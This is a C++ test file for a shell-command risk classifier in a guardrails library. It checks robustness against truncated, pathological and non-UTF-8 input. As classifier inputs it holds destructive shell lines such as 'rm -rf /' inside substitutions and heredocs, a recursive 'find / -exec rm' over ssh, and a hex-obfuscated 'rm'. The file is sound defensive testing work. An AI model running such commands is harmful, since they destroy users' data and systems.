    }
    for (auto& thread : threads) thread.join();
    CHECK(wrong == std::vector<int>(4, 0));
}

TEST_CASE("every prefix of a command line classifies: cut-off input is unknown or a class, never a crash", "[shell]") {
    for (const std::string_view text :
         {std::string_view("sudo -u x sh -c 'rm -rf \"/tmp/a b\"' && echo $(id -u) `date` ${X:-$(ls)} | tee >(cat) >/dev/null 2>&1"),
          std::string_view("cat <<'EOF' > out\n$(rm -rf /)\nEOF\nbash <<-X\n\tls\n\tX\n"),
          std::string_view("for f in $(ls); do if [[ -f $f ]]; then { rm \"$f\"; }; fi; done"),
          std::string_view("echo $'\\x72\\x6d' \\\n -rf; ssh h 'find / -exec rm {} \\;'")}) {
        for (std::size_t n = 0; n <= text.size(); ++n) {
            const ShellClassification result = classifier().classify(text.substr(0, n));
            INFO(text.substr(0, n));
            CHECK_FALSE(result.reason.empty());
        }
    }
    CHECK(classifier().classify("sh -c 'rm -rf").risk == U);
    CHECK(classifier().classify("echo $(rm -rf /").risk == U);
}

TEST_CASE("pathological input stays fast: work is bounded by length times depth", "[shell]") {
    const ShellClassifier big({}, 64 * 1024);
    for (const char c : std::string("[{($`'\"\\<>|;&")) {
        const auto start = std::chrono::steady_clock::now();
        (void)big.classify(std::string(64 * 1024, c));
        (void)big.classify("echo " + std::string(32 * 1024, c) + " " + std::string(32 * 1024 - 10, 'a'));
        const auto elapsed = std::chrono::steady_clock::now() - start;
        INFO("character " << c);
        CHECK(elapsed < std::chrono::seconds(2));
    }
    std::string braces;
    for (int i = 0; i < 60; ++i) braces += "{1..1}";
    for (int i = 0; i < 9; ++i) braces += "{a,b}";
    const auto start = std::chrono::steady_clock::now();
    CHECK(big.classify("echo " + braces).risk == R);
    CHECK(big.classify("rm " + braces).risk == X);  // too many words to expand: may be options
    CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(2));
    std::string sudos;
    for (int i = 0; i < 5000; ++i) sudos += "sudo ";
    CHECK(big.classify(sudos + "ls").risk == U);
    std::string subs;
    for (int i = 0; i < 2500; ++i) subs += "$(echo $(echo $(ls))) ";
    CHECK(big.classify("echo " + subs).risk == R);
}

TEST_CASE("what the shell classifier writes back is valid UTF-8 whatever bytes the command holds",
          "[shell]") {
    // issue 11 item 4: a reason quoting a word cut inside a multibyte character (or plain bad bytes).
    for (const std::string& text : {std::string("ls > /tmp/\xef\xbc"), std::string("rm /tmp/\xff\xfe"),
                                   std::string("cat \xc3"), std::string("echo \xe2\x82") + std::string(300, 'x')}) {
        const ShellClassification result = classifier().classify(text);
        INFO(text);
        CHECK(jitgate::guardrails::detail::is_valid_utf8(result.reason));
        for (const jitgate::guardrails::ShellEffect& effect : result.effects) {
            CHECK(jitgate::guardrails::detail::is_valid_utf8(effect.reason));
            CHECK(jitgate::guardrails::detail::is_valid_utf8(effect.command));
        }
    }
}
